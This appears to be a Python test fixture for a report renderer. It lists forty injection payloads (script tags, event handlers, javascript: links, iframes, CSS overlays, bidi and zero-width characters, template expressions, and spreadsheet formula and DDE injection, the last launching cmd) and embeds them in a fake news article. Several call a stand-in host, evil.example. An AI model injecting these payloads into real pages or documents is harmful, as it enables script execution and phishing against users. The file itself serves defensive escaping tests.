"""Forty ways in which an article could try to run in its report, or to hide in it."""

MARK = "window.ran=1"

PAYLOADS = [
    f"<script>{MARK}</script>",
    f"<SCRIPT SRC=//evil.example/x.js>{MARK}</SCRIPT>",
    f"</script><script>{MARK}</script>",
    f"<img src=x onerror={MARK}>",
    f'"><img src=x onerror="{MARK}">',
    f"'><svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f'<svg><animate onbegin="{MARK}" attributeName=x dur=1s>',
    f'<svg><a xlink:href="javascript:{MARK}"><text>press</text></a></svg>',
    f"<body onload={MARK}>",
    f'<details open ontoggle="{MARK}">',
    f'<input autofocus onfocus="{MARK}">',
    f'<video><source onerror="{MARK}"></video>',
    f'<marquee onstart="{MARK}">',
    f'<a href="javascript:{MARK}">read more</a>',
    f'<a href=" &#106;avascript:{MARK}">read more</a>',
    f"[read more](javascript:{MARK})",
    f"![picture](javascript:{MARK})",
    f"<javascript:{MARK}>",
    f'<iframe srcdoc="<script>parent.{MARK}</script>"></iframe>',
    f'<iframe src="javascript:parent.{MARK}"></iframe>',
    f'<object data="data:text/html,<script>{MARK}</script>"></object>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{MARK}">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    "</style><style>*{visibility:hidden}</style>",
    '<div style="position:fixed;inset:0;background:red">covered</div>',
    "<plaintext>",
    "<!-- a comment that is never closed",
    "<textarea><title>",
    "<form action=https://evil.example><button>Press</button></form>",
    f"&lt;script&gt;{MARK}&lt;/script&gt;",
    "&#60;b&#62; &amp; &nbsp; &quot;",
    "\u202eevila txet\u202c and \u2066isolated\u2069",
    "zero\u200bwidth\u200djoined\ufeffwords",
    "=HYPERLINK(\"https://evil.example\",\"press\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7*7 }} {% raw %} ${7*7} <%= 7*7 %> {# gone #}",
    "``` %%javascript " + MARK + " ``` $\\alpha$ \\(x\\) $$y$$",
]  # fmt: skip


def hostile_article() -> str:
    """An article whose sentences, quotations, numbers and names carry every payload."""
    parts = ["MOLDIR, Tolmar — About 40 people left on Monday."]
    for number, payload in enumerate(PAYLOADS):
        parts.append(f"Case {number}: {payload} ends here.")
        parts.append(f"“About {number + 20} {payload} soldiers were killed,” said Ana Brisk {payload}, a mayor.")
    return "\n\n".join(parts) + "\n"
